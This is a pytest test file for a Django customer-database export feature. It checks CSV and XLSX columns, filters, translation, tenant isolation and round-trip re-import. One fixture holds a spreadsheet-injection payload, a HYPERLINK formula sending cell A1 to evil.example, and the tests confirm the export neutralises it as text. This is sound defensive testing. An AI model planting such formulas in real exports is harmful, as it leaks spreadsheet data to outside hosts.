"""Exporting the customer base: the columns, filters, formula-safe cells, and files that
import back."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.utils import translation

from wateja.core.errors import ValidationFailed
from wateja.customers.exporting import customers_export
from wateja.customers.importing import import_run, import_upload
from wateja.customers.models import Customer, Source
from wateja.customers.services import consent_record, customer_create, customer_tags, tags_set
from wateja.tenants.models import AuditEvent

MALICIOUS = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def base(business):
    amina = customer_create(
        business=business,
        name="Amina Wanjiru",
        phone="0712 345 678",
        email="amina@example.com",
        city="Nairobi",
        language="sw",
        birth_day=15,
        birth_month=3,
        birth_year=1990,
    )
    tags_set(customer=amina, tags=["VIP", "coffee"])
    consent_record(customer=amina, channel="sms", granted=True)
    Customer.objects.filter(pk=amina.pk).update(total_spent_minor=120050, purchase_count=3)
    evil = customer_create(business=business, name=MALICIOUS, phone="0722 000 111", city="Kisumu")
    consent_record(customer=evil, channel="sms", granted=True)
    consent_record(customer=evil, channel="sms", granted=False)  # withdrawn: latest counts
    customer_create(
        business=business,
        name="Baraka\x01 Otieno",
        email="b@example.com",
        birth_day=2,
        birth_month=7,
    )
    return amina


def csv_rows(export):
    data = b"".join(export.chunks)
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def xlsx_rows(export):
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(export.chunks)))
    return [list(row) for row in workbook.active.iter_rows()]


def test_csv_export_has_every_column_and_neutralised_cells(business, base):
    export = customers_export(business=business, fmt="csv")
    assert export.filename.endswith(".csv") and business.slug in export.filename
    rows = csv_rows(export)
    assert rows[0] == [
        "Card number",
        "Name",
        "Phone",
        "E-mail",
        "City",
        "Language",
        "Birthday",
        "Tags",
        "Total spent",
        "Currency",
        "Purchases",
        "Last purchase",
        "Source",
        "SMS consent",
        "E-mail consent",
    ]
    by_name = {row[1]: row for row in rows[1:]}
    amina = by_name["Amina Wanjiru"]
    assert amina[0] == base.cards.get().number
    assert amina[2:9] == [
        "+254712345678",
        "amina@example.com",
        "Nairobi",
        "sw",
        "15.03.1990",
        "coffee, vip",
        "1200.50",
    ]
    assert amina[9:] == ["KES", "3", "", "Walk-in", "yes", "no"]
    evil = by_name["'" + MALICIOUS]  # a leading apostrophe: text, never a formula
    assert evil[13] == "no"
    assert "Baraka Otieno" in by_name  # the control character is gone
    assert by_name["Baraka Otieno"][6] == "02.07"
    assert AuditEvent.objects.get(action="customers.export").details["rows"] == 3


def test_xlsx_export_is_formula_safe_and_typed(business, base):
    rows = xlsx_rows(customers_export(business=business, fmt="xlsx"))
    assert rows[0][1].value == "Name"
    cells = {row[1].value: row for row in rows[1:]}
    evil = cells["'" + MALICIOUS]
    assert evil[1].data_type == "s"
    assert all(cell.data_type != "f" for row in rows for cell in row)
    amina = cells["Amina Wanjiru"]
    assert float(amina[8].value) == 1200.5 and amina[9].value == "KES"
    assert amina[2].value == "+254712345678"


def test_filters_and_the_users_language(business, base):
    rows = csv_rows(customers_export(business=business, fmt="csv", filters={"city": "nairobi"}))
    assert [row[1] for row in rows[1:]] == ["Amina Wanjiru"]
    rows = csv_rows(customers_export(business=business, fmt="csv", filters={"consent_sms": True}))
    assert [row[1] for row in rows[1:]] == ["Amina Wanjiru"]
    with translation.override("ru"):
        rows = csv_rows(customers_export(business=business, fmt="csv", filters={"tag": "vip"}))
    assert rows[1][13] == "да"
    with pytest.raises(ValidationFailed):
        customers_export(business=business, fmt="csv", filters={"spent_min": "lots"})
    with pytest.raises(ValidationFailed) as error:
        customers_export(business=business, fmt="pdf")
    assert error.value.code == "unknown_format"


def test_another_business_sees_none_of_it(business, other_business, base):
    rows = csv_rows(customers_export(business=other_business, fmt="csv"))
    assert rows[1:] == []


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_imports_back_into_another_business(business, make_business, base, fmt):
    export = customers_export(business=business, fmt=fmt)
    branch = make_business(name="Tawi")
    job, _created = import_upload(
        business=branch, file_name=export.filename, fileobj=io.BytesIO(b"".join(export.chunks))
    )
    assert set(job.mapping.values()) >= {
        "card_number",
        "name",
        "phone",
        "email",
        "city",
        "language",
        "birthday",
        "tags",
        "consent_sms",
        "consent_email",
    }
    job = import_run(job=job)
    assert (job.created_count, job.error_count) == (3, 0)
    amina = Customer.objects.get(business=branch, phone="+254712345678")
    assert (amina.birth_day, amina.birth_month, amina.birth_year, amina.language) == (
        15,
        3,
        1990,
        "sw",
    )
    assert customer_tags(amina) == ["coffee", "vip"]
    assert amina.source == Source.IMPORT
    assert amina.cards.get().number == base.cards.get().number
    assert Customer.objects.filter(business=branch, name=MALICIOUS).exists()  # read back as typed
